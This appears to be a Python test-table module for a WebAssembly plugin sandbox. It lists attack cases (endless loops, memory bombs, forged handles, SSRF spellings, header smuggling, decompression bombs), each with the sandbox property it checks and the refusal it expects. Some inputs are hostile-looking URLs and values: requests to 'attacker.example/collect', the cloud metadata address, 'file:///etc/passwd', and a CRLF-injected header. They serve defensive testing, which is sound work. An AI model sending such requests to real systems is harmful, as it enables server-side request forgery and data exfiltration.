"""The table of the gallery: it generates the tests, `fumehood demo --attacks` and the matrix.

A row belongs to a class of attack (`group`); rows of one class stand together.
"""

from __future__ import annotations

from typing import Final

from fumehood.limits import MIB
from fumehood.testing.gallery.attacks import HARMLESS, STUB, Attack
from fumehood.testing.gallery.bodies import BODIES, HOST_TIME
from fumehood.testing.gallery.caching import CACHING
from fumehood.testing.gallery.compiling import COMPILING
from fumehood.testing.gallery.documents import get, wire
from fumehood.testing.gallery.malformed import MALFORMED
from fumehood.testing.gallery.packed import PACKED
from fumehood.testing.gallery.providers import BAIT, PROVIDERS
from fumehood.testing.gallery.redirects import REBINDING, REDIRECTS
from fumehood.testing.gallery.reflections import REFLECTIONS
from fumehood.testing.gallery.schemas import SCHEMA_TRAPS
from fumehood.testing.gallery.smuggling import SMUGGLING
from fumehood.testing.gallery.spellings import SPELLINGS
from fumehood.testing.gallery.supply import SUPPLY
from fumehood.testing.gallery.tenants import TENANTS

ENDLESS: Final = "No guest runs longer than its deadline."
MEMORY: Final = "No guest takes more memory than its limit."
HONEST: Final = "A guest cannot hide why it was stopped."
HANDLES: Final = "No handle or length from a guest makes the host read or write astray."
DEATH: Final = "A dying guest takes nothing with it."
TEXT: Final = "Guest text reaches nobody's terminal, log or decoder raw."
LOGS: Final = "A guest cannot fill or forge the host's log."
NETWORK: Final = "A guest reaches the hosts that were granted, nothing else."
NOTHING: Final = "A guest sees no environment, argument, file, key or stream of the host."
SURFACE: Final = "What guests do not need is not there."

_LARGE: Final = "x" * 8_192
"""An input for which the host asks a guest with a bulk descriptor for room."""

_ENDLESS: Final = (
    Attack("endless_loop", "endless work", ENDLESS, "Timeout", detail={"limit": "deadline"}),
    Attack("start_loop", "endless work", ENDLESS, "Timeout", detail={"limit": "deadline"}),
    Attack("initialize_loop", "endless work", ENDLESS, "Timeout", detail={"limit": "deadline"}),
    Attack("ctors_loop", "endless work", ENDLESS, "Timeout", detail={"limit": "deadline"}),
    Attack("hs_init_loop", "endless work", ENDLESS, "Timeout", detail={"limit": "deadline"}),
    Attack(
        "bulk_loop",
        "endless work",
        ENDLESS,
        "Timeout",
        detail={"limit": "deadline"},
        input=_LARGE,
    ),
    Attack("fill_loop", "endless work", ENDLESS, "LimitError"),
    Attack("poll_sleep", "endless work", HOST_TIME, "Timeout", detail={"limit": "deadline"}),
    Attack("poll_absolute", "endless work", HOST_TIME, "Timeout", detail={"limit": "deadline"}),
    Attack(
        "guest_time",
        "endless work",
        "Time inside the guest has a limit of its own.",
        "Timeout",
        guest="endless_loop",
        detail={"limit": "guest_time"},
        limits={"guest_time": 0.2, "deadline": 5.0},
    ),
    Attack(
        "fuel_burn",
        "endless work",
        "Fuel ends a computation after a number of instructions.",
        "OutOfFuel",
        detail={"limit": "fuel"},
        limits={"fuel": 1_000_000},
    ),
    Attack("timing_mask", "timing masks", HONEST, "Timeout", detail={"limit": "deadline"}),
    Attack("memory_mask", "timing masks", HONEST, "OutOfMemory", guest="trap_mask"),
)

_FUEL: Final = (
    Attack(
        "host_call_flood",
        "fuel evasion",
        "Work moved into host calls is charged and counted.",
        "TooMuch",
        detail={"limit": "host_calls"},
        limits={"deadline": 5.0},
    ),
    Attack(
        "random_flood",
        "fuel evasion",
        "Host work is charged by the byte.",
        "LimitError",
        limits={"deadline": 1.0},
    ),
)

_MEMORY: Final = (
    Attack("memory_bomb", "memory", MEMORY, "OutOfMemory", detail={"limit": "memory"}),
    Attack("big_minimum", "memory", MEMORY, "OutOfMemory", detail={"limit": "memory"}),
    Attack("kernel_bomb", "memory", MEMORY, "OutOfMemory", detail={"limit": "kernel_memory"}),
    Attack(
        "tiny_blocks",
        "memory",
        MEMORY,
        "OutOfMemory",
        detail={"limit": "kernel_memory"},
        limits={"deadline": 20.0},
    ),
    Attack("table_bomb", "tables", MEMORY, HARMLESS, answer=b"0"),
    Attack("table_minimum", "tables", MEMORY, "LimitError", detail={"limit": "table_elements"}),
    Attack(
        "output_bomb",
        "memory",
        MEMORY,
        "TooMuch",
        detail={"limit": "output_bytes"},
        limits={"kernel_memory": 64 * MIB},
    ),
    Attack(
        "var_flood",
        "memory",
        "Variables have a byte limit.",
        "TooMuch",
        detail={"limit": "var_bytes"},
    ),
    Attack("many_memories", "memory", "A limit cannot be multiplied by memories.", "LoadError"),
)

_HANDLES: Final = (
    Attack("forged_output", "handles", HANDLES, HARMLESS),
    Attack("forged_access", "handles", HANDLES, HARMLESS, answer=b"0" * 16),
    Attack("forged_free", "handles", HANDLES, HARMLESS, answer=b"sound"),
    Attack("forged_handle", "handles", HANDLES, "ProtocolError"),
    Attack("bulk_output", "handles", HANDLES, "ProtocolError"),
    Attack("bulk_room", "handles", HANDLES, "ProtocolError", input=_LARGE),
    Attack("bulk_descriptor", "handles", HANDLES, "ProtocolError"),
    Attack("bulk_kernel", "handles", HANDLES, HARMLESS, answer=b"00o", input=_LARGE),
    Attack("interior_handle", "handles", HANDLES, "ProtocolError"),
    Attack("freed_handle", "handles", HANDLES, "ProtocolError"),
    Attack("forged_input", "handles", HANDLES, HARMLESS, answer=b"0" * 12, input="short"),
    Attack("alloc_absurd", "handles", HANDLES, HARMLESS, answer=b"0" * 7),
    Attack("error_interior", "handles", HANDLES, "PluginError", detail={"rc": 1}),
    Attack("kernel_reset", "handles", HANDLES, HARMLESS, answer=b"0"),
    Attack("stream_forged", "stream handles", HANDLES, "GuestError"),
    Attack("yield_unasked", "stream handles", HANDLES, HARMLESS),
    Attack("wasi_pointers", "handles", HANDLES, "Trap"),
)

_DEATH: Final = (
    Attack("stack_overflow", "stack", DEATH, "Trap"),
    Attack("unreachable", "crashes", DEATH, "Trap"),
    Attack("wild_pointer", "crashes", DEATH, "Trap"),
    Attack("exit", "crashes", DEATH, "Exit", detail={"status": 3}),
    Attack("wrong_signature", "crashes", DEATH, "GuestError"),
)

_TEXT: Final = (
    Attack("error_utf8", "UTF-8", TEXT, "PluginError", detail={"rc": 1}),
    Attack("error_terminal", "UTF-8", TEXT, "PluginError", detail={"rc": 1}),
    Attack("error_flood", "UTF-8", "Guest text is capped.", "PluginError", detail={"rc": 1}),
    Attack("log_flood", "logs", LOGS, HARMLESS, dropped=True),
    Attack("log_forge", "logs", LOGS, HARMLESS),
    Attack("stdout_flood", "logs", LOGS, HARMLESS, limits={"deadline": 5.0}),
    Attack(
        "deep_json",
        "JSON",
        "Documents from guests are bounded before they are decoded.",
        "GuestError",
        guest="http",
        input="[" * 100_000,
    ),
    Attack(
        "long_number",
        "JSON",
        "Documents from guests are bounded before they are decoded.",
        "GuestError",
        guest="http",
        input='{"url":' + "9" * 6_000 + "}",
        allowed_hosts=("*",),
    ),
)

_REACH: Final = (
    Attack(
        "config_probe",
        "environment, files",
        NOTHING,
        HARMLESS,
        answer=b"0" * 5,
        config={"model": "m"},
        environ={"FUMEHOOD_CANARY": BAIT},
    ),
    Attack("environment", "environment, files", NOTHING, HARMLESS, answer=b"0" * 6),
    Attack("files", "environment, files", NOTHING, HARMLESS, answer=b"0" * 24),
    Attack("stdin", "environment, files", NOTHING, HARMLESS, answer=b"00"),
    Attack("kernel_memory", "surface", SURFACE, "LoadError"),
    Attack("unknown_import", "surface", SURFACE, "LoadError"),
    Attack("wrong_type", "surface", SURFACE, "LoadError"),
    Attack("atomics", "surface", SURFACE, "LoadError"),
)

_NETWORK: Final = (
    Attack(
        "host_not_granted",
        "egress",
        NETWORK,
        "EgressDenied",
        guest="http",
        input=get("http://attacker.example/collect"),
        allowed_hosts=("api.openai.com",),
    ),
    Attack(
        "no_grant_at_all",
        "egress",
        NETWORK,
        "EgressDenied",
        guest="http",
        input=get("https://api.openai.com/v1/models"),
    ),
    Attack(
        "http_flood",
        "egress",
        "Requests of one operation are counted.",
        "TooMuch",
        detail={"limit": "http_requests"},
        input=get(f"{STUB}models"),
        allowed_hosts=("127.0.0.1",),
        limits={"deadline": 5.0},
    ),
    Attack(
        "metadata_service",
        "SSRF spellings",
        NETWORK,
        "EgressDenied",
        guest="http",
        input=get("http://169.254.169.254/latest/meta-data/"),
        allowed_hosts=("*",),
    ),
    Attack(
        "loopback_by_star",
        "SSRF spellings",
        "A private address needs a grant of its own; `*` is none.",
        "EgressDenied",
        guest="http",
        input=get(f"{STUB}models"),
        allowed_hosts=("*",),
    ),
    Attack(
        "file_scheme",
        "SSRF spellings",
        NETWORK,
        "EgressDenied",
        guest="http",
        input=get("file:///etc/passwd"),
        allowed_hosts=("*",),
    ),
    Attack(
        "userinfo",
        "SSRF spellings",
        NETWORK,
        "EgressDenied",
        guest="http",
        input=get("http://api.openai.com@attacker.example/"),
        allowed_hosts=("api.openai.com",),
    ),
    Attack(
        "backslash",
        "SSRF spellings",
        NETWORK,
        "EgressDenied",
        guest="http",
        input=get("http://attacker.example\\@api.openai.com/"),
        allowed_hosts=("api.openai.com",),
    ),
    Attack(
        "smuggled_header",
        "headers",
        "A guest sets no header that frames a request.",
        "EgressDenied",
        guest="http",
        input=get(f"{STUB}models", headers={"Transfer-Encoding": "chunked"}),
        allowed_hosts=("127.0.0.1",),
    ),
    Attack(
        "split_header",
        "headers",
        "A guest sets no header that frames a request.",
        "GuestError",
        guest="http",
        input=get(f"{STUB}models", headers={"X-A": "b\r\nX-Injected: yes"}),
        allowed_hosts=("127.0.0.1",),
    ),
    Attack(
        "host_not_granted_wire",
        "egress",
        "A refusal that the ABI reports as a 403 sends nothing.",
        HARMLESS,
        guest="qmt_http",
        input=wire("http://attacker.example/collect"),
        allowed_hosts=("api.openai.com",),
    ),
    Attack(
        "stream_not_granted",
        "egress",
        "A refused stream is an error reply, not an open one.",
        HARMLESS,
        guest="stream_open",
        input=wire("http://attacker.example/collect"),
        allowed_hosts=("api.openai.com",),
    ),
    Attack(
        "slow_loris",
        "slow and endless bodies",
        HOST_TIME,
        "Timeout",
        guest="http",
        input=get(f"{STUB}behave/drip-50"),
        allowed_hosts=("127.0.0.1",),
        detail={"limit": "deadline"},
    ),
    Attack(
        "silent_server",
        "slow and endless bodies",
        HOST_TIME,
        "Timeout",
        guest="http",
        input=get(f"{STUB}behave/hang"),
        allowed_hosts=("127.0.0.1",),
        detail={"limit": "deadline"},
    ),
    Attack(
        "endless_body",
        "slow and endless bodies",
        "Replies are capped.",
        "TooMuch",
        guest="http",
        input=get(f"{STUB}behave/endless"),
        allowed_hosts=("127.0.0.1",),
        detail={"limit": "response_bytes"},
        limits={"response_bytes": MIB, "deadline": 5.0},
    ),
    Attack(
        "gzip_bomb",
        "bombs",
        "Replies are capped after decoding.",
        "TooMuch",
        guest="http",
        input=get(f"{STUB}behave/gzip-bomb-64"),
        allowed_hosts=("127.0.0.1",),
        detail={"limit": "response_bytes"},
        limits={"response_bytes": MIB, "deadline": 10.0},
    ),
    Attack(
        "deflate_bomb",
        "bombs",
        "Replies are capped after decoding.",
        "TooMuch",
        guest="http",
        input=get(f"{STUB}behave/deflate-bomb-64"),
        allowed_hosts=("127.0.0.1",),
        detail={"limit": "response_bytes"},
        limits={"response_bytes": MIB, "deadline": 10.0},
    ),
)

GALLERY: Final[tuple[Attack, ...]] = (
    *_ENDLESS,
    *_FUEL,
    *_MEMORY,
    *_HANDLES,
    *_DEATH,
    *_TEXT,
    *_REACH,
    *_NETWORK,
    *PROVIDERS,
    *SPELLINGS,
    *SCHEMA_TRAPS,
    *REDIRECTS,
    *REBINDING,
    *REFLECTIONS,
    *SMUGGLING,
    *BODIES,
    *TENANTS,
    *COMPILING,
    *CACHING,
    *MALFORMED,
    *PACKED,
    *SUPPLY,
)

DEMO: Final = ("endless_loop", "memory_bomb", "host_not_granted")
"""The three that `fumehood demo` shows."""


def find(name: str) -> Attack:
    """The row called `name`; raises KeyError where there is none."""
    for attack in GALLERY:
        if attack.name == name:
            return attack
    raise KeyError(name)
